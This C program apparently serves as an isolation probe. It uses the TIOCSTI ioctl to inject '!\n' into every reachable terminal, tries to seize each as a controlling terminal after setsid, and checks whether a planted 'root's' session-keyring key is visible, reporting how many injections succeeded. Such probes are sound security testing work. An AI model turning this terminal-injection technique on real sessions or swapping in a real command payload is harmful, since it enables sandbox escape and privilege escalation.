/* SPDX-License-Identifier: Apache-2.0
 *
 * push [keep COMMAND...]: a hostile program, and with `keep` what root does before: it puts a key into a new session
 * keyring and becomes the command. Looks for that key, and pushes "!\n" (TIOCSTI) into every terminal that it has or can open, as what it is and as
 * the leader of a session whose terminal it tries to make of each. Prints the number of times that the kernel took it. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/keyctl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#define TERMINALS 64

static int push(int fd) {
  int taken = 0;
  for (const char *at = "!\n"; *at; at++) taken += ioctl(fd, TIOCSTI, at) == 0;
  return taken;
}

static int push_all(int steal) {
  int taken = 0;
  for (int i = -4; i < TERMINALS; i++) {
    char path[32];
    snprintf(path, sizeof path, i < 0 ? "/dev/tty" : "/dev/pts/%d", i);
    int fd = i < -1 ? i + 4 : open(path, O_RDWR | O_NOCTTY);
    if (i >= 0 && fd < 0) fd = open(path, O_WRONLY | O_NOCTTY);
    if (fd < 0) continue;
    if (steal) ioctl(fd, TIOCSCTTY, 1);
    taken += push(fd);
    if (steal) ioctl(fd, TIOCNOTTY, 0);
    if (i >= -1) close(fd);
  }
  return taken;
}

static long search(void) { return syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", "root's", 0); }

static int keep(char **command) {
  if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0) return perror("push"), 2;
  if (syscall(SYS_add_key, "user", "root's", "secret", 6, KEY_SPEC_SESSION_KEYRING) < 0) return perror("push"), 2;
  execvp(*command, command);
  return perror("push"), 2;
}

int main(int count, char **argument) {
  if (count > 2 && strcmp(argument[1], "keep") == 0) return keep(argument + 2);
  int status = 0, taken = push_all(0);
  pid_t child = fork();
  if (child == 0) {
    signal(SIGHUP, SIG_IGN); /* of a terminal that it gives up for the next */
    setsid();
    _exit(push_all(1));
  }
  waitpid(child, &status, 0);
  printf("key %s\n", search() < 0 ? "not found" : "found");
  printf("taken %d\n", taken + WEXITSTATUS(status));
  return 0;
}
